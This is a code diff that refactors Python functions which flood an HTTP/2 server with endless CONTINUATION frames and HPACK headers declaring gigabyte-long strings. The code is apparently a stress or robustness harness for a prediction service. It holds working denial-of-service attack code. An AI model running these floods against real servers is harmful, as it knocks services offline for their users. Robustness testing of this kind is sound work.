@@ -293,35 +293,27 @@ def rapid_reset_of_streams(address, until):
 
 def continuation(address, until):
     """a header block without end: CONTINUATION of 1.2 GB"""
-    filler = b"".join(literal(b"x-%d" % i, b"v" * 100) for i in range(120))[:MAX_FRAME - 100]
-    state = set()
+    return endless_headers(address, until, frame(CONTINUATION, 0, 1, b"v" * MAX_FRAME) * 16,
+                           1200 * MIB)
+
+
+def endless_headers(address, until, more, most_bytes):
+    """Begins a header whose value is a gigabyte, and goes on with frames of it."""
+    begun = set()
 
     def make(connection):
-        if connection not in state:
-            state.add(connection)
-            stream = connection.next_stream
-            connection.filled = stream
-            return frame(HEADERS, 0, stream, call_headers(wire.PREDICT))
-        return frame(CONTINUATION, 0, connection.filled, literal(b"x", b"v" * 16000)) * 16
+        if connection in begun:
+            return more
+        begun.add(connection)
+        block = call_headers(wire.PREDICT) + b"\0\1x" + hpack_integer(1 << 30, 7)
+        return frame(HEADERS, 0, 1, block)
 
-    del filler
-    return flood(address, until, make, 4, 1200 * MIB)
+    return flood(address, until, make, 4, most_bytes)
 
 
 def hpack_strings(address, until):
     """headers whose strings never end, in frames of one byte"""
-    state = set()
-
-    def make(connection):
-        if connection not in state:
-            state.add(connection)
-            connection.filled = connection.next_stream
-            block = call_headers(wire.PREDICT) + b"\0" + hpack_integer(1, 7) + b"x" + \
-                hpack_integer(1 << 30, 7)
-            return frame(HEADERS, 0, connection.filled, block)
-        return frame(CONTINUATION, 0, connection.filled, b"v") * 4096
-
-    return flood(address, until, make, 4, 34 * MIB)
+    return endless_headers(address, until, frame(CONTINUATION, 0, 1, b"v") * 4096, 34 * MIB)
 
 
 def hpack_varints(address, until):
